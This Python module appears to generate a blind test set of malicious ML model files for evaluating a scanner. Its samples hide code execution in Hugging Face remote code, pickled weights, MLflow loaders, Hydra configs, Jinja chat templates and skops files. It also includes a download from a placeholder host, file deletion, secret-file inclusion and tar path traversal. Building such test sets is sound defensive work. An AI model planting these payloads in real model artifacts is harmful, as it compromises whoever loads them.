"""The third blind set: Hugging Face and MLflow folders, Hydra and NeMo configurations, templates, tokenizers, skops."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen3_base import CODE, COMMANDS, HOST, SECRET, VICTIM, Sample, as_json, call, dumps, tarred, zipped

EVIL = call("os:system", COMMANDS[0])
SH = COMMANDS[0]
Files = dict[str, bytes]
Row = tuple[str, Files, str, str]
CONFIG = b"from transformers import PretrainedConfig\n\nclass NetConfig(PretrainedConfig):\n    model_type = 'net'\n"
MODEL = b"from transformers import PreTrainedModel\nfrom .configuration_net import NetConfig\n\nclass Net(PreTrainedModel):\n    config_class = NetConfig\n"
RUN = CODE[0].encode() + b"\n"


def _hugging_face() -> Iterator[Row]:
    base = {"model_type": "net", "architectures": ["Net"], "auto_map": {"AutoConfig": "configuration_net.NetConfig", "AutoModel": "modeling_net.Net"}}
    here = "'/tmp/s', trust_remote_code=True)"
    config = "from transformers import AutoConfig; AutoConfig.from_pretrained(" + here
    model = "from transformers import AutoModel; AutoModel.from_pretrained(" + here
    yield "config-code", {"config.json": as_json(base), "configuration_net.py": RUN + CONFIG}, config, "code"
    yield "model-code", {"config.json": as_json(base), "configuration_net.py": CONFIG, "modeling_net.py": RUN + MODEL}, model, "code"
    init = MODEL + b"    def __init__(self, config):\n        super().__init__(config)\n        import subprocess\n        subprocess.Popen(['sh', '-c', 'touch /tmp/x']).wait()\n"
    yield "model-init", {"config.json": as_json(base), "configuration_net.py": CONFIG, "modeling_net.py": init}, model, "code"
    hidden = CODE[3].encode().replace(b"; ", b"\n") + b"\n"
    yield "relative-import", {"config.json": as_json(base), "configuration_net.py": b"from .utils_net import *\n" + CONFIG, "utils_net.py": hidden}, config, "code"
    deep = {**base, "auto_map": {"AutoConfig": "configuration_net.NetConfig"}}
    decorated = CONFIG.replace(b"class", b"@(lambda c: (__import__('os').system('touch /tmp/x'), c)[1])\nclass")
    yield "decorator", {"config.json": as_json(deep), "configuration_net.py": decorated}, config, "code"
    default = CONFIG + b"    def __init__(self, x=__import__('os').system('touch /tmp/x'), **kwargs):\n        super().__init__(**kwargs)\n"
    yield "default-argument", {"config.json": as_json(deep), "configuration_net.py": default}, config, "code"
    obscured = b"getattr(__import__(''.join(map(chr, (111, 115)))), 'metsys'[::-1])(bytes.fromhex('746f756368202f746d702f78').decode())\n" + CONFIG
    yield "obscured", {"config.json": as_json(deep), "configuration_net.py": obscured}, config, "code"
    ctypes = b"import ctypes\nctypes.CDLL('/tmp/s/libnet.so')\n"
    yield "native-library", {"config.json": as_json(deep), "configuration_net.py": ctypes + CONFIG, "libnet.so": _library()}, config, "code"
    token = {"tokenizer_class": "NetTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_net.NetTokenizer", None]}}
    tokenizer = RUN + b"from transformers import PreTrainedTokenizer\n\nclass NetTokenizer(PreTrainedTokenizer):\n    pass\n"
    yield "tokenizer-code", {"tokenizer_config.json": as_json(token), "tokenization_net.py": tokenizer}, "from transformers import AutoTokenizer; AutoTokenizer.from_pretrained(" + here, "code"
    processor = {"feature_extractor_type": "NetExtractor", "auto_map": {"AutoFeatureExtractor": "feature_net.NetExtractor"}}
    yield "feature-extractor-code", {"preprocessor_config.json": as_json(processor), "feature_net.py": RUN + b"from transformers import FeatureExtractionMixin\nclass NetExtractor(FeatureExtractionMixin):\n    pass\n"}, "from transformers import AutoFeatureExtractor; AutoFeatureExtractor.from_pretrained(" + here, "code"
    image = {"image_processor_type": "NetImages", "auto_map": {"AutoImageProcessor": "images_net.NetImages"}}
    yield "image-processor-code", {"preprocessor_config.json": as_json(image), "images_net.py": RUN + b"class NetImages:\n    pass\n"}, "from transformers import AutoImageProcessor; AutoImageProcessor.from_pretrained(" + here, "code"
    generate = {"config.json": as_json({"model_type": "gpt2", "n_layer": 1, "n_embd": 8, "n_head": 1, "vocab_size": 8, "n_positions": 8}), "generation_config.json": b"{}", "custom_generate/generate.py": RUN + b"def generate(model, **kwargs):\n    return 1\n"}
    yield "custom-generate", generate, "from transformers import AutoConfig, AutoModelForCausalLM as A; m = A.from_config(AutoConfig.from_pretrained('/tmp/s')); m.generate(custom_generate='/tmp/s', trust_remote_code=True)", "code"
    weights = {"config.json": as_json({"model_type": "bert"}), "pytorch_model.bin": dumps(EVIL, 2)}
    yield "pickled-weights", weights, "import torch; torch.load('/tmp/s/pytorch_model.bin', weights_only=False)", "code"
    index = {"metadata": {}, "weight_map": {"a": "model-00001-of-00002.bin", "b": "model-00002-of-00002.bin"}}
    yield "second-shard", {"pytorch_model.bin.index.json": as_json(index), "model-00001-of-00002.bin": dumps({}, 2), "model-00002-of-00002.bin": dumps({"b": EVIL}, 2)}, "import torch; torch.load('/tmp/s/model-00002-of-00002.bin', weights_only=False)", "code"
    modules = [{"idx": 0, "name": "0", "path": "", "type": "net_layer.Layer"}]
    yield "sentence-transformers", {"modules.json": as_json(modules), "config_sentence_transformers.json": b"{}", "net_layer.py": RUN + b"import torch\nclass Layer(torch.nn.Module):\n    @classmethod\n    def load(cls, *a, **k):\n        return cls()\n"}, "from sentence_transformers import SentenceTransformer as S; S(" + here, "code"
    hub = {"hubconf.py": RUN + b"dependencies = ['torch']\ndef net(pretrained=False):\n    return 1\n"}
    yield "hubconf", hub, "import torch; torch.hub.load('/tmp/s', 'net', source='local')", "code"
    dependency = {"hubconf.py": b"from models.net import net\n", "models/__init__.py": b"", "models/net.py": CODE[2].encode() + b"\ndef net():\n    return 1\n"}
    yield "hubconf-import", dependency, "import torch; torch.hub.load('/tmp/s', 'net', source='local')", "code"
    pipeline = {"model_index.json": as_json({"_class_name": ["pipeline", "Net"], "_diffusers_version": "0.30.0"}), "pipeline.py": RUN + b"from diffusers import DiffusionPipeline\nclass Net(DiffusionPipeline):\n    pass\n"}
    yield "diffusers-pipeline", pipeline, "from diffusers import DiffusionPipeline as D; D.from_pretrained('/tmp/s', custom_pipeline='/tmp/s', trust_remote_code=True)", "code"
    dataset = {"net.py": RUN + b"import datasets\n", "dataset_infos.json": b"{}"}
    yield "dataset-script", dataset, "import runpy; runpy.run_path('/tmp/s/net.py')", "code"
    peft = {"adapter_config.json": as_json({"peft_type": "LORA", "base_model_name_or_path": "x", "auto_mapping": {"base_model_class": "Net", "parent_library": "evil_parent"}}), "evil_parent.py": RUN + b"class Net:\n    @classmethod\n    def from_pretrained(cls, *a, **k):\n        return cls()\n"}
    yield "peft-parent", peft, "import sys; sys.path.insert(0, '/tmp/s'); from peft import AutoPeftModel as A; A.from_pretrained('/tmp/s')", "code"


def _library() -> bytes:
    from corpora.unseen3_data import data

    return data("lib.so")


def _mlflow() -> Iterator[Row]:
    head = "artifact_path: model\nmlflow_version: 3.1.0\nmodel_uuid: 0\nflavors:\n  python_function:\n    env: {}\n    python_version: 3.11.7\n"
    load = "import mlflow.pyfunc; mlflow.pyfunc.load_model('/tmp/s')"
    module = RUN + b"def _load_pyfunc(path, *a):\n    class M:\n        def predict(self, *a, **k):\n            return 1\n    return M()\n"
    yield "loader-module", {"MLmodel": (head + "    loader_module: evil_loader\n    code: code\n    data: .\n").encode(), "code/evil_loader.py": module}, load, "code"
    yield "code-paths", {"MLmodel": (head + "    loader_module: pkg.flavor\n    code: code\n").encode(), "code/pkg/__init__.py": CODE[1].encode(), "code/pkg/flavor.py": module.replace(RUN, b"")}, load, "code"
    python = "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    cloudpickle_version: 3.1.2\n"
    yield "python-model", {"MLmodel": (head + python).encode(), "python_model.pkl": dumps(EVIL, 5)}, "import os; os.environ['MLFLOW_ALLOW_PICKLE_DESERIALIZATION'] = 'true'; " + load, "code"
    yield "python-model-nested", {"MLmodel": (head + python.replace("python_model.pkl", "artifacts/deep/m.bin")).encode(), "artifacts/deep/m.bin": dumps([1, EVIL], 2)}, "import os; os.environ['MLFLOW_ALLOW_PICKLE_DESERIALIZATION'] = 'true'; " + load, "code"
    code = RUN + b"from mlflow.models import set_model\nfrom mlflow.pyfunc import PythonModel\nclass M(PythonModel):\n    def predict(self, x):\n        return x\nset_model(M())\n"
    yield "model-code-path", {"MLmodel": (head + "    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n    streamable: false\n").encode(), "agent.py": code}, load, "code"
    sklearn = "    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.5.0\n    code: null\n"
    yield "sklearn-flavour", {"MLmodel": (head + sklearn).encode(), "model.pkl": dumps(EVIL, 4)}, "import os; os.environ['MLFLOW_ALLOW_PICKLE_DESERIALIZATION'] = 'true'; import mlflow.sklearn; mlflow.sklearn.load_model('/tmp/s')", "code"
    torch = "    loader_module: mlflow.pytorch\n    data: data\n    pickle_module_name: evil_pickle\n    code: code\n  pytorch:\n    model_data: data\n    pytorch_version: 2.5.0\n    code: code\n"
    yield "pickle-module", {"MLmodel": (head + torch).encode(), "data/pickle_module_info.txt": b"evil_pickle", "data/model.pth": b"x", "code/evil_pickle.py": RUN}, "import os; os.environ['MLFLOW_ALLOW_PICKLE_DESERIALIZATION'] = 'true'; import mlflow.pytorch; mlflow.pytorch.load_model('/tmp/s')", "code"
    yield "flow-mapping", {"MLmodel": b"flavors: {python_function: {loader_module: \"evil\\x5floader\", code: c, env: {}, python_version: 3.11.7}}\nmodel_uuid: 0\nmlflow_version: 3.1.0\n", "c/evil_loader.py": module}, load, "code"
    project = b"name: net\nentry_points:\n  main:\n    command: \"touch /tmp/x\"\n"
    yield "project", {"MLproject": project}, "import yaml, subprocess; subprocess.run(yaml.safe_load(open('/tmp/s/MLproject'))['entry_points']['main']['command'], shell=True)", "code"


def _hydra() -> Iterator[tuple[str, Files, str, str]]:
    load = "from omegaconf import OmegaConf; from hydra.utils import instantiate; instantiate(OmegaConf.load(f))"
    texts = {
        "os-system": "model:\n  _target_: os.system\n  command: touch /tmp/x\n",
        "exec": "optim:\n  _target_: builtins.exec\n  _args_: [\"import os; os.system('touch /tmp/x')\"]\n",
        "popen": "trainer:\n  _target_: subprocess.Popen\n  args: [touch, /tmp/x]\n  _convert_: all\n",
        "partial-map": "a:\n  _target_: builtins.list\n  _args_:\n    - _target_: builtins.map\n      _args_:\n        - _target_: hydra.utils.get_method\n          path: os.system\n        - [touch /tmp/x]\n",
        "get-method-call": "a:\n  _target_: functools.reduce\n  _args_:\n    - {_target_: hydra.utils.get_method, path: subprocess.getoutput}\n    - [touch /tmp/x]\n    - touch /tmp/x\n" .replace("functools.reduce", "builtins.list").replace("{_target_: hydra.utils.get_method, path: subprocess.getoutput}", "{_target_: builtins.map, _args_: [{_target_: hydra.utils.get_object, path: os.system}, [touch /tmp/x]]}"),
        "interpolated": "who: os\nwhat: system\ncall:\n  _target_: ${who}.${what}\n  command: touch /tmp/x\n",
        "runpy": "dataset:\n  _target_: runpy.run_path\n  path_name: /tmp/s/prepare.py\n",
        "torch-load": "w:\n  _target_: torch.load\n  f: /tmp/s/w.pt\n  weights_only: false\n",
        "pandas": "w:\n  _target_: pandas.read_pickle\n  filepath_or_buffer: /tmp/s/w.pt\n",
        "nested-list": "callbacks:\n  - monitor: loss\n  - {a: {b: [{_target_: pty.spawn, argv: [touch, /tmp/x]}]}}\n",
    }
    beside = {"runpy": {"prepare.py": RUN}, "torch-load": {"w.pt": dumps(EVIL, 2)}, "pandas": {"w.pt": dumps(EVIL, 2)}}
    for name, text in texts.items():
        yield name, {"config.yaml": text.encode(), **beside.get(name, {})}, load, "code"
    yield "unlink", {"conf.yaml": f"x:\n  _target_: os.unlink\n  path: {VICTIM}\n".encode()}, load, "file"
    yield "urlretrieve", {"conf.yaml": f"x:\n  _target_: urllib.request.urlretrieve\n  url: http://{HOST}/a\n".encode()}, load, "network"
    yaml = "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: os.system\n  command: touch /tmp/x\n"
    unpack = "import tarfile; from omegaconf import OmegaConf; from hydra.utils import instantiate; tarfile.open(f).extractall('/tmp/s/m'); instantiate(OmegaConf.load('/tmp/s/m/model_config.yaml'))"
    yield "nemo", {"asr.nemo": tarred({"./model_config.yaml": yaml.encode(), "./model_weights.ckpt": b""})}, unpack, "code"
    yield "nemo-gzip", {"asr.nemo": tarred({"model_config.yaml": yaml.encode()}, "w:gz")}, unpack, "code"
    weights = "import tarfile, torch; tarfile.open(f).extractall('/tmp/s/m'); torch.load('/tmp/s/m/model_weights.ckpt', weights_only=False)"
    yield "nemo-weights", {"tts.nemo": tarred({"model_config.yaml": b"target: x\n", "model_weights.ckpt": dumps({"a": EVIL}, 2)})}, weights, "code"
    yield "nemo-artifact", {"nlp.nemo": tarred({"model_config.yaml": b"tokenizer:\n  vocab: nemo:t.pkl\n", "t.pkl": dumps(EVIL, 4)})}, "import tarfile, pickle; pickle.load(tarfile.open(f).extractfile('t.pkl'))", "code"
    yield "nemo-slip", {"slip.nemo": tarred({"../victim/keep.txt": b"pwned", "model_config.yaml": b"target: x\n"})}, "import tarfile, os; os.makedirs('/tmp/s/m'); os.chdir('/tmp/s'); os.rename('/tmp/s/m', '/tmp/m') if not os.path.exists('/tmp/m') else 0; tarfile.open(f).extractall('/tmp/m', filter='fully_trusted')", "file"


TEMPLATES = {
    "cycler": "{{ cycler.__init__.__globals__.os.popen('touch /tmp/x').read() }}",
    "subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['touch', '/tmp/x']).wait() }}{% endif %}{% endfor %}",
    "attr-filter": "{{ (namespace|attr('__init__')|attr('__globals__')).os.system('touch /tmp/x') }}",
    "escaped": "{% set a = '\\x5f\\x5fglobals\\x5f\\x5f' %}{{ (lipsum|attr(a))['os']['system']('touch /tmp/x') }}",
    "joined": "{{ lipsum[['__glo', 'bals__']|join].os.popen('touch /tmp/x').read() }}",
    "self": "{{ self.__init__.__globals__.__builtins__.exec(\"import os; os.system('touch /tmp/x')\") }}",
    "format": "{{ lipsum['%c%cglobals%c%c'|format(95, 95, 95, 95)]['os'].system('touch /tmp/x') }}",
    "import-os": "{{ joiner.__init__.__globals__.__builtins__.__import__('subprocess').check_output(['touch', '/tmp/x']) }}",
    "map-attribute": "{{ [cycler]|map(attribute='__init__.__globals__.os')|map(attribute='system')|first }}{{ ([cycler]|map(attribute='__init__.__globals__.os')|first).system('touch /tmp/x') }}",
}


def gguf(template: str, key: str = "tokenizer.chat_template") -> bytes:
    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    pairs = {"general.architecture": "llama", "general.name": "chat-7b", key: template}
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs))
    return head + b"".join(text(k) + struct.pack("<I", 8) + text(v) for k, v in pairs.items())


def _templates() -> Iterator[Row]:
    render = ".render(messages=[], bos_token='', eos_token='')"
    plain = "import json, jinja2; jinja2.Environment().from_string(json.load(open(f))['chat_template'])" + render
    honest = "{% for m in messages %}{{ m.role + ': ' + m.content }}{% endfor %}"
    reader = "import gguf, jinja2; r = gguf.GGUFReader(f); t = bytes(r.fields['KEY'].parts[-1]).decode(); jinja2.Environment().from_string(t)" + render
    for number, (name, source) in enumerate(TEMPLATES.items()):
        if number % 2:
            key = "tokenizer.chat_template" if number % 4 == 1 else "tokenizer.chat_template.tool_use"
            yield f"gguf-{name}", {"chat-7b.Q4.gguf": gguf(honest + source, key)}, reader.replace("KEY", key), "code"
        else:
            yield name, {"tokenizer_config.json": as_json({"chat_template": honest + source})}, plain, "code"
    yield "gguf-inside-comment", {"m.gguf": gguf("{# safe #}" + honest + " " * 3000 + TEMPLATES["cycler"])}, reader.replace("KEY", "tokenizer.chat_template"), "code"
    yield "jinja-file", {"chat_template.jinja": (honest + TEMPLATES["subclasses"]).encode()}, "import jinja2; jinja2.Environment().from_string(open(f).read())" + render, "code"
    yield "named-list", {"tokenizer_config.json": as_json({"chat_template": [{"name": "default", "template": honest}, {"name": "rag", "template": TEMPLATES["cycler"]}]})}, "import json, jinja2; jinja2.Environment().from_string(json.load(open(f))['chat_template'][1]['template'])" + render, "code"
    yield "processor", {"chat_template.json": as_json({"chat_template": TEMPLATES["joined"]})}, plain, "code"
    box = "import json; from jinja2.sandbox import ImmutableSandboxedEnvironment as E; E().from_string(json.load(open(f))['chat_template'])" + render
    yield "endless", {"tokenizer_config.json": as_json({"chat_template": "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}{% endfor %}{% endfor %}"})}, box, "crash"
    yield "doubling", {"tokenizer_config.json": as_json({"chat_template": "{% set ns = namespace(a='aaaaaaaa') %}{% for i in range(60) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}"})}, box, "crash"
    yield "include", {"tokenizer_config.json": as_json({"chat_template": "{% include '" + SECRET[1:] + "' %}"})}, "import json, jinja2; jinja2.Environment(loader=jinja2.FileSystemLoader('/')).from_string(json.load(open(f))['chat_template'])" + render, "file"
    yield "center", {"m.gguf": gguf("{{ 'a'|center(9000000000) }}")}, reader.replace("KEY", "tokenizer.chat_template"), "crash"


def skops(node: dict[str, object], more: Files | None = None, version: str = "0.16.0") -> bytes:
    return zipped({"schema.json": as_json({**node, "protocol": 2, "_skops_version": version}), **(more or {})})


def _node(module: str, name: str, loader: str, **rest: object) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": loader, **rest}


def _json(value: str) -> dict[str, object]:
    return _node("builtins", "str", "JsonNode", content=value, is_json=True)


def _skops() -> Iterator[Row]:
    load = "import skops.io as s; s.load(f, trusted=s.get_untrusted_types(file=f))"
    one = _node("builtins", "tuple", "TupleNode", content=[_json('"touch /tmp/x"')])
    reduce = _node("os", "system", "ConstructorFromReduceNode", content=one)
    yield "reduce", {"m.skops": skops(reduce)}, load, "code"
    lists = _node("builtins", "list", "ListNode", content=[_json("1"), _node("builtins", "exec", "ConstructorFromReduceNode", content=_node("builtins", "tuple", "TupleNode", content=[_json('"open(\'/tmp/x\', \'w\')"')]))])
    yield "reduce-in-a-list", {"m.skops": skops(lists)}, load, "code"
    empty = _node("builtins", "dict", "DictNode", content={}, key_types=_node("builtins", "list", "ListNode", content=[]))
    partial = _node("functools", "partial", "PartialNode", content={"func": _node("os", "system", "FunctionNode"), "args": one, "kwds": empty, "namespace": empty})
    yield "partial", {"m.skops": skops(partial)}, load + "()", "code"
    caller = _node("operator", "methodcaller", "OperatorFuncNode", attrs=one)
    del caller
    method = _node("builtins", "str", "MethodNode", content={"obj": _node("sklearn.linear_model._base", "LinearRegression", "ObjectNode", content=None), "func": "__init__"})
    del method
    call_it = _node("os", "call", "OperatorFuncNode", attrs=_node("builtins", "tuple", "TupleNode", content=[_node("os", "system", "TypeNode"), _json('"touch /tmp/x"')]))
    yield "operator-call", {"m.skops": skops(call_it, version="0.11.0")}, load, "code"
    state = _node("scipy.stats._continuous_distns", "norm_gen", "ObjectNode", content=_node("builtins", "dict", "DictNode", content={"_parse_arg_template": _json('"import os; os.system(\'touch /tmp/x\')"')}, key_types=_node("builtins", "list", "ListNode", content=[_node("builtins", "str", "TypeNode")])))
    yield "state", {"m.skops": skops(state)}, load, "code"
    imported = _node("evil_module", "thing", "TypeNode")
    yield "import", {"m.skops": skops(imported), "evil_module.py": RUN + b"thing = int\n"}, "import sys; sys.path.insert(0, '/tmp/s'); " + load, "code"
    keys = _node("builtins", "dict", "DictNode", content={"touch /tmp/x": _json("1")}, key_types=_node("builtins", "list", "ListNode", content=[_node("os", "system", "TypeNode")]))
    yield "key-type", {"m.skops": skops(keys)}, load, "code"
    array = _node("numpy", "ndarray", "NdArrayNode", type="numpy", file="a.npy")
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    yield "object-array", {"m.skops": skops(array, {"a.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head) + 1) + head + b"\n" + dumps(EVIL, 2)})}, "import zipfile, io, numpy; numpy.load(io.BytesIO(zipfile.ZipFile(f).read('a.npy')), allow_pickle=True)", "code"


def samples() -> Iterator[Sample]:
    for family, rows in (("hugging-face", _hugging_face()), ("mlflow", _mlflow())):
        for name, files, loader, effect in rows:
            yield Sample(f"{family}/{name}", files, loader, effect, "extra+main" if "diffusers" in name else "main", "")
    for name, files, loader, effect in _hydra():
        yield Sample(f"hydra/{name}", files, loader, effect, "hydra" if name not in ("torch-load", "pandas", "nemo-weights") else "hydra+main")
    for family, rows in (("template", _templates()), ("skops", _skops())):
        for name, files, loader, effect in rows:
            yield Sample(f"{family}/{name}", files, loader, effect, "skops11+main" if name == "operator-call" else "main")
